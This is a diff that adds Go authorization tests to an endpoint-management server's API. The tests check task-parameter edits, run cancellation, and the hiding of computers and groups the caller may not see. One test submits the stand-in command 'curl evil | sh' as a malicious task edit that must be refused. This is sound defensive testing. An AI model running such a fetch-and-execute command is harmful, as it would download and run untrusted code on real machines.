@@ -649,3 +649,104 @@ func TestGroups_DeletingAGroupThatHoldsPoliciesTasksOrDynamicGroups(t *testing.T
 		wantError(t, w.call(t, "DELETE", fmt.Sprintf("/api/v1/groups/%s?version=%d", g.ID, g.Version), ""), http.StatusConflict, errcode.Conflict)
 	}
 }
+
+// Who may edit a task but not use the computers its triggers run it on
+// cannot change what it does there; a name is theirs to change.
+func TestAuthorization_TaskParametersNeedTheTriggersComputers(t *testing.T) {
+	w := newWorld(t)
+	task := &store.TaskRow{ID: uuid.NewString(), Name: "cmd", Type: "run_command", Params: `{"command":"true","timeout":"60s","max_output":100}`, GroupID: w.laptops}
+	if err := w.db.CreateTask(t.Context(), task); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.db.CreateTrigger(t.Context(), &store.TriggerRow{ID: uuid.NewString(), TaskID: task.ID, Spec: `{"kind":"daily","at":"03:00"}`,
+		Targets: `[{"type":"computer","id":"c-srv"}]`, Enabled: true, CreatedAt: w.now}); err != nil {
+		t.Fatal(err)
+	}
+	ps := &store.PermissionSet{ID: uuid.NewString(), Name: "Laptop tasks", GroupID: store.GroupAll, Groups: []string{w.laptops},
+		Grants: map[string]int{string(authz.Tasks): int(authz.Write)}}
+	if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
+		t.Fatal(err)
+	}
+	editor := w.asUser(t, "laptop-tasks", w.laptops, ps.ID)
+	rec := w.serve(t, request{method: "PATCH", path: "/api/v1/tasks/" + task.ID, body: `{"params":{"command":"curl evil | sh"},"version":1}`, cookie: editor})
+	if msg := wantError(t, rec, http.StatusForbidden, errcode.Forbidden); strings.Contains(msg, "Servers") {
+		t.Fatalf("the refusal names the hidden group: %q", msg)
+	}
+	got := decodeAs[taskJSON](t, w.call(t, "GET", "/api/v1/tasks/"+task.ID, ""), http.StatusOK)
+	if !strings.Contains(string(got.Params), `"true"`) || got.Version != 1 {
+		t.Fatalf("task after a refused edit: %s (version %d)", got.Params, got.Version)
+	}
+	rec = w.serve(t, request{method: "PATCH", path: "/api/v1/tasks/" + task.ID, body: `{"name":"renamed","version":1}`, cookie: editor})
+	if rec.Code != http.StatusOK {
+		t.Fatalf("renaming: %d %s", rec.Code, rec.Body)
+	}
+	// Whoever may use the computers there may change the parameters.
+	rec = w.call(t, "PATCH", "/api/v1/tasks/"+task.ID, `{"params":{"command":"uptime"},"version":2}`)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("the administrator's edit: %d %s", rec.Code, rec.Body)
+	}
+}
+
+// Cancelling a run stops work on a computer: it needs use there, as
+// retrying does, not only read.
+func TestAuthorization_CancellingARunNeedsUseOnItsComputer(t *testing.T) {
+	w := newWorld(t)
+	run := &store.TaskRun{ID: uuid.NewString(), TaskID: w.task, TriggerID: w.trigger, ComputerID: "c-srv", Type: "scan", Params: `{}`,
+		State: store.RunPlanned, CreatedAt: w.now, NotBefore: w.now, ExpiresAt: w.now.Add(time.Hour)}
+	if err := w.db.CreateRuns(t.Context(), []*store.TaskRun{run}); err != nil {
+		t.Fatal(err)
+	}
+	ps := &store.PermissionSet{ID: uuid.NewString(), Name: "Watchers", GroupID: store.GroupAll, Groups: []string{w.servers},
+		Grants: map[string]int{string(authz.Computers): int(authz.Read), string(authz.Tasks): int(authz.Use)}}
+	if err := w.db.CreatePermissionSet(t.Context(), ps); err != nil {
+		t.Fatal(err)
+	}
+	watcher := w.asUser(t, "watcher", w.servers, ps.ID)
+	if rec := w.serve(t, request{method: "GET", path: "/api/v1/task-runs/" + run.ID, cookie: watcher}); rec.Code != http.StatusOK {
+		t.Fatalf("reading the run: %d %s", rec.Code, rec.Body)
+	}
+	wantError(t, w.serve(t, request{method: "POST", path: "/api/v1/task-runs/" + run.ID + "/cancel", cookie: watcher}), http.StatusForbidden, errcode.Forbidden)
+	if got, _ := w.db.RunByID(t.Context(), run.ID); got.State != store.RunPlanned {
+		t.Fatalf("run %s after a refused cancel", got.State)
+	}
+	if rec := w.call(t, "POST", "/api/v1/task-runs/"+run.ID+"/cancel", ""); rec.Code != http.StatusOK {
+		t.Fatalf("the administrator's cancel: %d %s", rec.Code, rec.Body)
+	}
+}
+
+// A target the caller may not read answers exactly as a missing one: a
+// hidden computer's name, or its being revoked, does not leak.
+func TestAuthorization_HiddenTargetsAreAsMissingAsAbsentOnes(t *testing.T) {
+	w := newWorld(t)
+	if rec := w.call(t, "POST", "/api/v1/computers/c-srv/revoke", ""); rec.Code != http.StatusNoContent {
+		t.Fatalf("revoke: %d %s", rec.Code, rec.Body)
+	}
+	task := &store.TaskRow{ID: uuid.NewString(), Name: "laptop update", Type: "engine_update", Params: `{}`, GroupID: w.laptops}
+	if err := w.db.CreateTask(t.Context(), task); err != nil {
+		t.Fatal(err)
+	}
+	lap := w.cookies["laptops-admin"]
+	run := func(target string) string {
+		return wantError(t, w.serve(t, request{method: "POST", path: "/api/v1/tasks/" + task.ID + "/run",
+			body: target, cookie: lap}), http.StatusNotFound, errcode.NotFound)
+	}
+	hidden, missing := run(`{"targets":[{"type":"computer","id":"c-srv"}]}`), run(`{"targets":[{"type":"computer","id":"c-nope"}]}`)
+	if strings.Contains(hidden, "srv-01") || strings.Replace(hidden, "c-srv", "c-nope", 1) != missing {
+		t.Fatalf("hidden computer: %q; missing one: %q", hidden, missing)
+	}
+	hidden, missing = run(`{"targets":[{"type":"static_group","path":"All/Servers"}]}`), run(`{"targets":[{"type":"static_group","path":"All/Nope"}]}`)
+	if strings.Replace(hidden, "Servers", "Nope", 1) != missing {
+		t.Fatalf("hidden group: %q; missing one: %q", hidden, missing)
+	}
+	pol := decodeAs[policyJSON](t, w.serve(t, request{method: "POST", path: "/api/v1/policies", body: `{"name":"lap","product":"agent","settings":{}}`, cookie: lap}), http.StatusCreated)
+	assign := func(target string) string {
+		return wantError(t, w.serve(t, request{method: "POST", path: "/api/v1/policies/" + pol.ID + "/assignments", body: target, cookie: lap}),
+			http.StatusNotFound, errcode.NotFound)
+	}
+	if hidden, missing := assign(`{"target_type":"computer","target":"c-srv"}`), assign(`{"target_type":"computer","target":"c-nope"}`); hidden != missing {
+		t.Fatalf("assigning to a hidden computer: %q; to a missing one: %q", hidden, missing)
+	}
+	if hidden, missing := assign(`{"target_type":"dynamic","target":"`+w.dyn+`"}`), assign(`{"target_type":"dynamic","target":"d-nope"}`); hidden != missing {
+		t.Fatalf("assigning to a hidden dynamic group: %q; to a missing one: %q", hidden, missing)
+	}
+}
